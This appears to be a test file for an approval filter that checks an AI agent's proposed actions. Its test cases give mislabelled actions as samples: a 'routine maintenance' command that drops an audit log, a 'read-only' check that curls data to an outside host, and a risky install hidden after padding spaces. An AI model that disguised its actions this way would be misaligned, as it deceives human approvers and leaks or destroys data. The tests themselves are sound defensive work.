import { describe, expect, it } from 'vitest';
import { evaluateHeuristics } from '../index.js';

const where = { home: '/home/alice', workspace: '/home/alice/project' };
const judged = (type: string, payload: Record<string, unknown>) =>
  evaluateHeuristics({ type, payload }, where);

describe('approval.misleading_label: an action whose label calls it harmless', () => {
  it.each([
    [
      'a "routine maintenance" command that drops a table',
      'execute_command',
      {
        description: 'Routine maintenance: vacuum the database',
        command: 'sqlite3 data/app.db "VACUUM; DROP TABLE audit_log;"',
      },
    ],
    [
      'a "typo" commit that adds a signing key',
      'git_commit',
      { message: 'docs: fix typo in README', files: ['README.md', 'keys/release-signing.key'] },
    ],
    [
      'a "read-only" check that sends data out',
      'execute_command',
      {
        description: 'Check disk usage (read-only)',
        command: 'du -sh . && curl -s -X POST -d "$(du -sh .)" https://stats.example-disk.net/u',
      },
    ],
    [
      'a publish whose comment calls it a dry run',
      'execute_command',
      { command: 'cargo publish --allow-dirty  # dry run only, nothing is uploaded' },
    ],
    [
      'a mail "no action needed" to a recipient outside',
      'send_email',
      {
        to: 'all-clients@acme.example.com',
        subject: 'Invoice 2291 - no action needed',
        body: 'Please find the statement attached.',
        attachments: ['finance/statement-2291.pdf'],
      },
    ],
  ])('blocks %s', (_what, type, payload) => {
    const labelled = judged(type, payload);
    expect(labelled).toMatchObject({
      decision: 'BLOCK',
      ruleIds: expect.arrayContaining(['approval.misleading_label']),
    });
  });

  it('leaves the same effects with a human when the label says what they do', () => {
    expect(
      judged('execute_command', {
        description: 'Drop the audit log table',
        command: 'sqlite3 data/app.db "DROP TABLE audit_log;"',
      }),
    ).toMatchObject({ decision: 'ESCALATE' });
  });

  it('reads only real comments: a "#" inside quotes is text', () => {
    expect(judged('execute_command', { command: "echo '# dry run' && npm publish" })).toMatchObject(
      { decision: 'ESCALATE', ruleIds: ['packages.publish'] },
    );
  });

  it('lets a harmless action with a harmless label run', () => {
    expect(
      judged('execute_command', {
        description: 'Routine maintenance: vacuum the database',
        command: 'sqlite3 data/app.db "VACUUM;"',
      }),
    ).toMatchObject({ decision: 'PASS' });
  });

  it("does not count a schedule's policy escalation as an effect its name hides", () => {
    expect(
      judged('create_schedule', {
        cron: '0 9 * * 1',
        name: 'Routine weekly summary',
        prompt: 'Summarise my week.',
      }),
    ).toMatchObject({ decision: 'ESCALATE', ruleIds: ['persistence.schedule'] });
  });
});

describe('approval.padded_out_of_view: blank space that pushes part of a line out of view', () => {
  it('blocks a risky command hidden after a run of spaces', () => {
    const padded = `npm run lint${' '.repeat(60)}; npm install -g left-padder`;
    expect(judged('execute_command', { command: padded })).toMatchObject({
      decision: 'BLOCK',
      ruleIds: expect.arrayContaining(['approval.padded_out_of_view']),
    });
    expect(
      judged('execute_command', { command: 'npm run lint; npm install -g left-padder' }),
    ).toMatchObject({ decision: 'ESCALATE' });
  });

  it('does not count indentation at the start of a line', () => {
    const file = `config:\n${' '.repeat(40)}value: 1\n`;
    expect(
      judged('execute_command', { command: `cat > /tmp/x.yaml <<'EOF'\n${file}EOF\nnpm i -g tsx` }),
    ).not.toMatchObject({ ruleIds: expect.arrayContaining(['approval.padded_out_of_view']) });
  });
});
